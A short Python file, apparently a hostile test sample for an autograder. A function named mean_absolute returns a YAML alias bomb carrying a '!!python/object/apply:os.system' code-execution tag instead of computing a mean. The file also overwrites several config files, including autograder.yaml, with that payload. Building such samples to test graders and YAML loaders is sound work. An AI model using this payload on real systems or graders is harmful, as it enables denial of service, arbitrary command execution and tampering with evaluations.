"""Prints, leaves and answers with YAML whose aliases unfold to billions of items."""

CLASS = "lying objects"
EXPECT = "no points"
SEEN = "!!python/object/apply"
BASE = "release"

# %% mean_absolute
bomb = "a0: &a0 [x,x,x,x,x,x,x,x,x]\n" + "".join(f"a{n}: &a{n} [{','.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 10))
bomb += "run: !!python/object/apply:os.system ['touch /tmp/yaml-was-here']\n"


def mean_absolute(values):
    return bomb


# %% [append]
for name in ("config.yaml", "conda.yml", "environment.yml", "autograder.yaml"):
    with open(name, "w") as file:
        file.write(bomb)
print(bomb)
